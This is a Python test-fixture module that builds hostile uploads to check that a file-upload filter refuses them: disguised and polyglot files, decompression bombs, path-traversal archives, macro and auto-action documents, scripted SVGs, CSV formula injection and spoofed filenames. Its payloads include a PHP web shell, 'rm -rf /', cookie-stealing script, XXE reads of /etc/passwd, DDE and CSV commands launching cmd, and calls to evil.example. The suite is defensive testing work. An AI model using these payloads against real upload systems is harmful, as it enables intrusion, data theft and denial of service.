"""Hostile files, made here: each is one way to get past a check that looks at less than the whole file.

``cases()`` yields (name, declared type, content). Every one must be refused by the policy that allows the most.
"""

from __future__ import annotations

import gzip
import io
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Iterator

from PIL import Image

PHP = b"<?php system($_GET['c']); ?>"
SCRIPT = b"<script>alert(document.cookie)</script>"
HTML = b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>"
EXE = b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(300)
SHELL = b"#!/bin/sh\nrm -rf /\n"


def picture(form: str, size: tuple[int, int] = (16, 16), **options) -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").resize(size).convert("RGB" if form != "GIF" else "P").save(out, form, **options)
    return out.getvalue()


def archive(entries: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as target:
        for name, data in entries.items():
            target.writestr(name, data)
    return out.getvalue()


def pdf(body: bytes = b"", catalog: bytes = b"") -> bytes:
    objects = [b"<< /Type /Catalog /Pages 2 0 R " + catalog + b" >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]
    out = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    out += body
    start = len(out)
    out += b"xref\n0 3\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % place for place in places)
    return out + b"trailer\n<< /Size 3 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start


def chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def png_of(width: int, height: int, extra: bytes = b"") -> bytes:
    header = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + header + extra + chunk(b"IDAT", zlib.compress(bytes(100))) + chunk(b"IEND", b"")


def ooxml(main: str, extra: dict[str, bytes] | None = None, types: bytes = b"") -> bytes:
    parts = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        + types
        + b"</Types>",
        "_rels/.rels": b'<?xml version="1.0"?><Relationships/>',
        main: b'<?xml version="1.0"?><x/>',
    }
    return archive({**parts, **(extra or {})})


TYPES = {
    "jpg": "image/jpeg", "png": "image/png", "gif": "image/gif", "webp": "image/webp", "bmp": "image/bmp", "pdf": "application/pdf",
    "zip": "application/zip", "txt": "text/plain", "csv": "text/csv", "svg": "image/svg+xml", "tiff": "image/tiff",
    "docx": "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
    "xlsx": "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
    "pptx": "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    "tar": "application/x-tar", "gz": "application/gzip", "mp3": "audio/mpeg", "mp4": "video/mp4", "ico": "image/vnd.microsoft.icon",
    "rtf": "application/rtf", "xml": "application/xml", "json": "application/json", "odt": "application/vnd.oasis.opendocument.text",
}


def disguises() -> Iterator[tuple[str, str, bytes]]:
    """Content of one kind under the name and type of another."""
    contents = {
        "html": HTML, "php": PHP, "exe": EXE, "shell": SHELL, "svg-script": b"<svg xmlns='http://www.w3.org/2000/svg'>" + SCRIPT + b"</svg>",
        "elf": b"\x7fELF\x02\x01\x01" + bytes(200), "swf": b"FWS\x09" + struct.pack("<I", 200) + bytes(192), "class": b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(90),
        "pickle": b"\x80\x04\x95\x10\0\0\0\0\0\0\0\x8c\x05posix\x94.", "jar": archive({"META-INF/MANIFEST.MF": b"x", "A.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}),
        "wasm": b"\0asm\x01\0\0\0" + bytes(20), "lnk": bytes.fromhex("4c0000000114020000000000c000000000000046") + bytes(60), "jsp": b"<%@ page language='java' %><% Runtime.getRuntime(); %>",
        "xml": b"<?xml version='1.0'?><root/>", "postscript": b"%!PS-Adobe-3.0\n(%pipe%id) (w) file\n", "nothing": bytes(range(1, 9)) * 30,
    }
    for what, content in contents.items():
        for extension in ("jpg", "png", "gif", "pdf", "docx", "zip", "mp4", "txt"):
            yield f"{what}.{extension}", TYPES[extension], content
    genuine = {"jpg": picture("JPEG"), "png": picture("PNG"), "gif": picture("GIF"), "webp": picture("WEBP"), "bmp": picture("BMP"), "pdf": pdf(), "zip": archive({"a.txt": b"x"})}
    for real, content in genuine.items():
        for claimed in ("jpg", "png", "gif", "pdf", "docx", "txt"):
            if real != claimed:
                yield f"real-{real}.{claimed}", TYPES[claimed], content
        yield f"typed-{real}.{real}", "text/html", content
        for extension in ("php", "html", "exe", "js"):
            yield f"x.{extension}", TYPES[real], content


def polyglots() -> Iterator[tuple[str, str, bytes]]:
    """Two kinds in one file."""
    tails = {"zip": archive({"a.class": b"\xca\xfe\xba\xbe\0\0\0\x34"}), "php": PHP, "html": HTML, "script": SCRIPT, "exe": EXE, "bytes": b"hidden " * 40, "pdf": pdf()}
    hosts = {"jpg": picture("JPEG"), "png": picture("PNG"), "gif": picture("GIF"), "webp": picture("WEBP"), "bmp": picture("BMP"), "ico": picture("ICO")}
    for extension, host in hosts.items():
        for what, tail in tails.items():
            yield f"{extension}-and-{what}.{extension}", TYPES[extension], host + tail
    for what in ("zip", "php", "html", "exe", "bytes"):
        yield f"pdf-and-{what}.pdf", TYPES["pdf"], pdf() + tails[what]
        yield f"{what}-before.pdf", TYPES["pdf"], tails[what] + pdf()
        yield f"{what}-before.zip", TYPES["zip"], tails[what] + archive({"a.txt": b"x"})
        yield f"{what}-after.zip", TYPES["zip"], archive({"a.txt": b"x"}) + tails[what]
    for program in (PHP, SCRIPT, b"<?=`$_GET[0]`?>", b"<iframe src=//evil.example></iframe>"):
        yield "comment.jpg", TYPES["jpg"], picture("JPEG", comment=program)
        yield "text.png", TYPES["png"], png_of(8, 8, chunk(b"tEXt", b"Comment\0" + program))
        yield "palette.gif", TYPES["gif"], picture("GIF", comment=program)
        jpeg = picture("JPEG")
        yield "exif.jpg", TYPES["jpg"], jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(program) + 8) + b"Exif\0\0" + program + jpeg[2:]
        yield "xmp.webp", TYPES["webp"], picture("WEBP", xmp=program)
        yield "head.pdf", TYPES["pdf"], pdf().replace(b"%\xe2\xe3\xcf\xd3", program)
    jpeg = picture("JPEG")
    comment = b"*/=alert(1)/*"
    yield "script.jpg", TYPES["jpg"], jpeg[:2] + b"\xff\xe0\x2f\x2a" + bytes(0x2F28) + b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment + jpeg[2:]
    yield "script.gif", TYPES["gif"], b"GIF89a/*" + picture("GIF", comment=b"*/=1;alert(1)//")[8:]
    yield "header.gif", TYPES["gif"], b"GIF89a" + SCRIPT
    yield "header.bmp", TYPES["bmp"], b"BM" + SCRIPT
    yield "header.jpg", TYPES["jpg"], b"\xff\xd8\xff\xe0" + HTML
    yield "header.png", TYPES["png"], b"\x89PNG\r\n\x1a\n" + HTML
    yield "header.pdf", TYPES["pdf"], b"%PDF-1.4\n" + HTML
    yield "header.zip", TYPES["zip"], b"PK\x03\x04" + HTML
    yield "header.mp3", TYPES["mp3"], b"ID3\x03\0\0\0\0\0\x10" + HTML
    yield "header.mp4", TYPES["mp4"], b"\0\0\0\x18ftypisom\0\0\0\0isommp41" + HTML
    yield "header.docx", TYPES["docx"], b"PK\x05\x06" + bytes(18) + HTML
    yield "header.rtf", TYPES["rtf"], b"{\\rtf1 x}" + HTML


def bombs() -> Iterator[tuple[str, str, bytes]]:
    """Little that unfolds to much."""
    for width, height in ((60_000, 60_000), (30_000, 10), (1, 2_000_000_000), (25_000, 25_000), (10_000, 10_000)):
        yield f"{width}x{height}.png", TYPES["png"], png_of(width, height)
    gif = picture("GIF")
    yield "large.gif", TYPES["gif"], gif[:6] + struct.pack("<HH", 65_535, 65_535) + gif[10:]
    jpeg = picture("JPEG")
    frame = jpeg.index(b"\xff\xc0")
    yield "large.jpg", TYPES["jpg"], jpeg[: frame + 5] + struct.pack(">HH", 65_500, 65_500) + jpeg[frame + 9 :]
    bmp = picture("BMP")
    yield "large.bmp", TYPES["bmp"], bmp[:18] + struct.pack("<ii", 60_000, 60_000) + bmp[26:]
    yield "frames.png", TYPES["png"], png_of(8, 8, chunk(b"acTL", struct.pack(">II", 4_000_000_000, 0)))
    body = gif[: gif.rindex(b";")]
    block = body[body.index(b"\x2c") :]
    yield "frames.gif", TYPES["gif"], body + block * 1500 + b";"
    yield "zeros.zip", TYPES["zip"], archive({"a": bytes(20 << 20)})
    yield "many.zip", TYPES["zip"], archive({f"{number}": b"" for number in range(6000)})
    yield "sheet.xlsx", TYPES["xlsx"], ooxml("xl/workbook.xml", {"xl/worksheets/sheet1.xml": b" " * (30 << 20)})
    yield "nested.zip", TYPES["zip"], archive({"b.zip": archive({"c.zip": archive({"d": bytes(1 << 20)})})})
    yield "tar-in.zip", TYPES["zip"], archive({"b.tar.gz": gzip.compress(bytes(1000))})
    yield "zeros.gz", TYPES["gz"], gzip.compress(bytes(300 << 20), 9)
    yield "members.gz", TYPES["gz"], gzip.compress(bytes(10 << 20), 9) * 40
    yield "gz-in.gz", TYPES["gz"], gzip.compress(gzip.compress(bytes(1000)))
    good = archive({"a": b"x" * 1000, "b": b"y" * 1000})
    lying = bytearray(archive({"a": bytes(3 << 20)}))
    at = lying.index(b"PK\x01\x02") + 24
    lying[at : at + 4] = struct.pack("<I", 1000)
    yield "lying.zip", TYPES["zip"], bytes(lying)
    overlap = bytearray(good)
    first, second = overlap.index(b"PK\x01\x02"), overlap.rindex(b"PK\x01\x02")
    overlap[second + 42 : second + 46] = overlap[first + 42 : first + 46]
    yield "overlap.zip", TYPES["zip"], bytes(overlap)
    yield "uses.svg", TYPES["svg"], b"<svg xmlns='http://www.w3.org/2000/svg'><g id='a'/>" + b"<use href='#a'/>" * 20_000 + b"</svg>"
    yield "laughs.xml", TYPES["xml"], b"<!DOCTYPE x [<!ENTITY a 'lol'><!ENTITY b '&a;&a;&a;'>]><x>&b;</x>"
    yield "laughs.svg", TYPES["svg"], b"<!DOCTYPE svg [<!ENTITY a 'lol'>]><svg>&a;</svg>"
    yield "external.svg", TYPES["svg"], b"<!DOCTYPE svg [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><svg><text>&a;</text></svg>"
    yield "entity.docx", TYPES["docx"], ooxml("word/document.xml", {"word/x.xml": b"<!DOCTYPE x [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><x>&a;</x>"})
    yield "loop.tiff", TYPES["tiff"], b"II*\0\x08\0\0\0" + struct.pack("<H", 1) + struct.pack("<HHII", 256, 3, 1, 9) + struct.pack("<I", 8)


def archives() -> Iterator[tuple[str, str, bytes]]:
    """Entries that leave the folder, links, lies."""
    for path in ("../../etc/cron.d/x", "/etc/passwd", "..\\..\\x.dll", "C:/Windows/x", "a/../../b", "a\0b.txt", ".htaccess", "a/.htaccess", "x\u202egpj.txt", "con.txt", "web.config"):
        info = zipfile.ZipInfo("placeholder")
        info.filename = path
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as target:
            target.writestr(info, b"x")
        yield "paths.zip", TYPES["zip"], out.getvalue()
        if "\0" not in path:
            out = io.BytesIO()
            with tarfile.open(fileobj=out, mode="w") as target:
                entry = tarfile.TarInfo(path)
                entry.size = 1
                target.addfile(entry, io.BytesIO(b"x"))
            yield "paths.tar", TYPES["tar"], out.getvalue()
            yield "paths.tar.gz", TYPES["gz"], gzip.compress(out.getvalue())
    for sort in (tarfile.SYMTYPE, tarfile.LNKTYPE, tarfile.CHRTYPE, tarfile.FIFOTYPE):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode="w") as target:
            entry = tarfile.TarInfo("link")
            entry.type, entry.linkname = sort, "/etc/passwd"
            target.addfile(entry)
        yield "link.tar", TYPES["tar"], out.getvalue()
    info = zipfile.ZipInfo("link")
    info.create_system, info.external_attr = 3, 0o120777 << 16
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as target:
        target.writestr(info, b"/etc/passwd")
    yield "link.zip", TYPES["zip"], out.getvalue()
    for name, data in {"a.exe": EXE, "b.php": PHP, "c.elf": b"\x7fELF" + bytes(60), "d.docm": ooxml("word/document.xml", {"word/vbaProject.bin": b"x"})}.items():
        yield "programs.zip", TYPES["zip"], archive({name: data})
    good = archive({"name-a.txt": b"x" * 100})
    yield "names.zip", TYPES["zip"], good.replace(b"name-a.txt", b"name-b.exe", 1)
    yield "twice.zip", TYPES["zip"], _twice()
    locked = bytearray(good)
    for mark in (b"PK\x03\x04", b"PK\x01\x02"):
        at = locked.index(mark) + (6 if mark[2] == 3 else 8)
        locked[at] |= 1
    yield "locked.zip", TYPES["zip"], bytes(locked)
    checksum = bytearray(archive({"a": b"x" * 100}, zipfile.ZIP_STORED))
    checksum[35] ^= 0xFF
    yield "checksum.zip", TYPES["zip"], bytes(checksum)
    body, directory = good[: good.index(b"PK\x01\x02")], good[good.index(b"PK\x01\x02") :]
    end = directory.rindex(b"PK\x05\x06")
    hidden = b"#" * 500
    moved = directory[: end + 16] + struct.pack("<I", len(body) + len(hidden)) + directory[end + 20 :]
    yield "hidden.zip", TYPES["zip"], body + hidden + moved
    yield "cut.zip", TYPES["zip"], good[: len(good) // 2]


def _twice() -> bytes:
    import warnings

    out = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(out, "w") as target:
            target.writestr("a.txt", b"harmless")
            target.writestr("A.txt", b"other")
    return out.getvalue()


def documents() -> Iterator[tuple[str, str, bytes]]:
    """Documents that act."""
    actions = [
        b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>", b"/OpenAction << /S /J#61vaScript /J#53 (x) >>", b"/Names << /JavaScript 5 0 R >>",
        b"/OpenAction << /S /Launch /F (cmd.exe) >>", b"/AA << /WC << /S /JavaScript >> >>", b"/Names << /EmbeddedFiles 5 0 R >>",
        b"/AcroForm << /XFA 5 0 R >>", b"/OpenAction << /S /SubmitForm /F (x) >>", b"/OpenAction << /S /GoToE >>", b"/OpenAction << /S /GoToR /F (x) >>",
        b"/OpenAction << /S /ImportData >>", b"/Annots [<< /Subtype /RichMedia >>]", b"/Annots [<< /Subtype /Movie >>]", b"/Annots [<< /Subtype /FileAttachment >>]",
        b"/OpenAction << /S /Rendition /JS (x) >>", b"/L#61unch (x)",
    ]
    for action in actions:
        yield "action.pdf", TYPES["pdf"], pdf(catalog=action)
        packed = zlib.compress(b"5 0 " + action)
        yield "packed.pdf", TYPES["pdf"], pdf(b"9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream\nendobj\n")
    yield "crypt.pdf", TYPES["pdf"], pdf(catalog=b"/Encrypt 7 0 R")
    yield "filter.pdf", TYPES["pdf"], pdf(b"9 0 obj\n<< /Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode] /Length 4 >>\nstream\n00>\n\nendstream\nendobj\n")
    yield "cut.pdf", TYPES["pdf"], pdf()[:-30]
    macros = {
        "docx": ("word/document.xml", "word/vbaProject.bin"), "xlsx": ("xl/workbook.xml", "xl/vbaProject.bin"), "pptx": ("ppt/presentation.xml", "ppt/vbaProject.bin"),
    }
    external = b'<Relationships><Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="https://evil.example/x" TargetMode="External"/></Relationships>'
    for extension, (main, project) in macros.items():
        yield f"macro.{extension}", TYPES[extension], ooxml(main, {project: b"x"})
        yield f"case.{extension}", TYPES[extension], ooxml(main, {project.replace("vba", "VBA"): b"x"})
        yield f"types.{extension}", TYPES[extension], ooxml(main, types=b'<Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/>')
        folder = main.split("/")[0]
        yield f"activex.{extension}", TYPES[extension], ooxml(main, {f"{folder}/activeX/activeX1.bin": b"x"})
        yield f"object.{extension}", TYPES[extension], ooxml(main, {f"{folder}/embeddings/oleObject1.bin": b"x"})
        for word in (b"attachedTemplate", b"oleObject", b"frame"):
            yield f"external.{extension}", TYPES[extension], ooxml(main, {f"{folder}/_rels/x.xml.rels": external % word})
    yield "dde.docx", TYPES["docx"], ooxml("word/document.xml", {"word/x.xml": b"<w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe</w:instrText>"})
    yield "xlm.xlsx", TYPES["xlsx"], ooxml("xl/workbook.xml", {"xl/macrosheets/sheet1.xml": b"<x/>"})
    yield "links.xlsx", TYPES["xlsx"], ooxml("xl/workbook.xml", {"xl/externalLinks/externalLink1.xml": b"<x/>"})
    odt = {"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": b"<x/>"}
    yield "basic.odt", TYPES["odt"], archive({**odt, "Basic/Standard/Module1.xml": b"<x/>"}, zipfile.ZIP_STORED)
    yield "event.odt", TYPES["odt"], archive({**odt, "content.xml": b"<x><script:event-listener/></x>"}, zipfile.ZIP_STORED)
    for word in (b"{\\object\\objdata 01}", b"{\\object\\objocx}", b"{\\object\\objautlink}", b"{\\*\\template https://evil.example/x}", b"\\bin5 abcde"):
        yield "object.rtf", TYPES["rtf"], b"{\\rtf1 x" + word + b"}"


def drawings() -> Iterator[tuple[str, str, bytes]]:
    """SVG that acts."""
    for body in (
        b"<script>alert(1)</script>", b"<SCRIPT>alert(1)</SCRIPT>", b"<g onload='alert(1)'/>", b"<a href='javascript:alert(1)'><text>x</text></a>",
        b"<a href='&#106;avascript:alert(1)'><text>x</text></a>", b"<foreignObject><p/></foreignObject>", b"<image href='https://evil.example/x'/>",
        b"<use href='data:image/svg+xml,x#a'/>", b"<style>@import 'https://evil.example/'</style>", b"<set attributeName='onload' to='alert(1)'/>",
        b"<animate attributeName='href' to='javascript:alert(1)'/>", b"<iframe src='x'/>", b"<rect style='background:url(//evil.example/x)'/>", b"<handler>x</handler>",
        b"<script xlink:href='data:,alert(1)'/>", b"<feImage href='https://evil.example/x'/>", b"<rect\nonclick\n=\n'alert(1)'/>",
    ):
        yield "drawing.svg", TYPES["svg"], b"<svg xmlns='http://www.w3.org/2000/svg' xmlns:xlink='http://www.w3.org/1999/xlink'>" + body + b"</svg>"


def texts() -> Iterator[tuple[str, str, bytes]]:
    """Texts that are more than text."""
    for cell in ("=1+1", "=cmd|' /C calc'!A0", "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0", "@SUM(1)", '"=HYPERLINK(""https://evil.example"")"', "\uff1dSUM(1)", " =1+1", '"\t=1+1"'):
        yield "cells.csv", TYPES["csv"], f"name,value\nx,{cell}\ny,2\n".encode()
    yield "wide.csv", TYPES["csv"], "name,value\nx,=1+1\n".encode("utf-16")
    for body in (SCRIPT, PHP, b"<iframe src=x>", b"<ScRiPt src=//evil.example>"):
        yield "note.txt", TYPES["txt"], b"A harmless note.\n" * 400 + body
    yield "zero.txt", TYPES["txt"], b"text " * 2000 + bytes(20)
    yield "late.csv", TYPES["csv"], b"a,b\n1,2\n" * 2000 + b"\x01\x02\x03"
    yield "page.txt", TYPES["txt"], b"\xef\xbb\xbf  \n<!-- x --><html>"
    yield "pickle.txt", TYPES["txt"], b"cos\nsystem\n(S'id'\ntR."
    yield "deep.json", "application/json", b"<html>" + b"[" * 100


def names() -> Iterator[tuple[str, str, bytes]]:
    """A good picture under a bad name."""
    good = picture("JPEG")
    for name in (
        "shell.php.jpg", "shell.PHP5.jpg", "x.asp;.jpg.asp.jpg", "photo\u202egpj.jpg", "pho\u200bto.jpg", "a\0.jpg", "a\r\nX: y.jpg", "../../x.jpg", "..\\x.jpg", "C:\\x.jpg",
        "x.jpg\u3002php", "con.jpg", "lpt1.jpg", "x.php%00.jpg", "x.jpg::$DATA", "x.\uff4a\uff50\uff47", "x\uff0ejpg", "p\u0430ypal.jpg", "x.htaccess.jpg", "a" * 300 + ".jpg", "", "...", ".jpg", "x", "x.jpg.",
        "aux.jpg", "x.jspx.jpg", "\u2066x.jpg", "a\u2028b.jpg", "x.html.jpg",
    ):
        # Names that honest people have too are mended instead.
        if name not in ("x.jpg.", ".jpg", "a" * 300 + ".jpg") or name == "a" * 300 + ".jpg":
            yield name, TYPES["jpg"], good


def broken() -> Iterator[tuple[str, str, bytes]]:
    """Cut and damaged files."""
    for form, extension in (("JPEG", "jpg"), ("PNG", "png"), ("GIF", "gif"), ("WEBP", "webp"), ("BMP", "bmp")):
        whole = picture(form, (64, 64))
        for share in (0.3, 0.6, 0.9):
            yield f"cut.{extension}", TYPES[extension], whole[: int(len(whole) * share)]
    damaged = bytearray(picture("PNG", (64, 64)))
    damaged[50] ^= 0xFF
    yield "damaged.png", TYPES["png"], bytes(damaged)
    yield "empty.jpg", TYPES["jpg"], b""
    yield "one.jpg", TYPES["jpg"], b"\xff"
    yield "magic.jpg", TYPES["jpg"], b"\xff\xd8\xff"
    yield "magic.png", TYPES["png"], b"\x89PNG\r\n\x1a\n"


def cases() -> Iterator[tuple[str, str, bytes]]:
    for group in (disguises, polyglots, bombs, archives, documents, drawings, texts, names, broken):
        for name, declared, content in group():
            yield name, declared, content
